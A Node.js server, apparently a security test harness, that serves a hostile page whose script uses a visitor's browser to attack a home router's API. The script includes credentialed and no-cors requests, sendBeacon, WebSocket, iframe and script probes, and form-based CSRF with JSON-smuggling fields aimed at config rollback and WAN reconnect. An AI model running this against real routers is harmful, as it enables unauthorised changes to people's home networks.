/**
 * A page of somebody else that tries to use the box through the browser of a person of the house. It runs as any host,
 * on the port that it is given, against the box under the name that it is given; what it found out stands in the title when it is done.
 */
import { createServer } from "node:http";

const [port = "8000", BOX = ""] = process.argv.slice(2);

const SCRIPT = `
const BOX = ${JSON.stringify(BOX)};
const found = {};
async function attempt(name, ask) {
  try { found[name] = await ask(); } catch (error) { found[name] = "refused"; }
}
const told = async (answer) => answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()).slice(0, 60);
const change = JSON.stringify({ language: "fr" });
await attempt("put", async () => told(await fetch(BOX + "/api/v1/first-run", { method: "PUT", credentials: "include",
  headers: { "content-type": "application/json", "x-passerelle": "1" }, body: change })));
await attempt("read", async () => told(await fetch(BOX + "/api/v1/hosts", { credentials: "include" })));
await attempt("welcome", async () => told(await fetch(BOX + "/api/v1/welcome", { credentials: "include" })));
for (const path of ["/api/v1/config/rollback", "/api/v1/nat/port-mappings", "/api/v1/wan/reconnect", "/api/v1/dns/flush", "/api/v1/sessions"])
  await attempt("post " + path, async () => told(await fetch(BOX + path, { method: "POST", mode: "no-cors", credentials: "include",
    headers: { "content-type": "text/plain" }, body: "{}" })));
await attempt("beacon", async () => navigator.sendBeacon(BOX + "/api/v1/wan/reconnect", new Blob(["{}"], { type: "text/plain" })));
await attempt("socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket(BOX.replace("http", "ws") + "/api/v1/events");
  socket.onopen = () => resolve("OPEN");
  socket.onerror = () => resolve("refused");
}));
await attempt("script", () => new Promise((resolve) => {
  const script = document.createElement("script");
  script.src = BOX + "/api/v1/openapi.json";
  script.onload = () => resolve("LOADED");
  script.onerror = () => resolve("refused");
  document.body.append(script);
}));
await attempt("frame", () => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.src = BOX + "/";
  frame.onload = () => resolve("loaded " + frame.contentWindow.length);
  document.body.append(frame);
}));
for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
  const form = document.createElement("form");
  form.method = "post"; form.enctype = kind; form.target = "sink"; form.action = BOX + "/api/v1/config/rollback";
  const field = document.createElement("input");
  field.name = '{"to":1,"x":"'; field.value = '"}';
  form.append(field); document.body.append(form); form.submit();
  await new Promise((resolve) => setTimeout(resolve, 300));
}
document.title = JSON.stringify(found);
`;

createServer((request, response) => {
  const isScript = request.url === "/evil.js";
  response.writeHead(200, {
    "content-type": isScript ? "text/javascript" : "text/html; charset=utf-8",
  });
  response.end(
    isScript
      ? SCRIPT
      : '<!doctype html><title>evil</title><body><iframe name="sink"></iframe><script type="module" src="/evil.js"></script>',
  );
}).listen(Number(port));
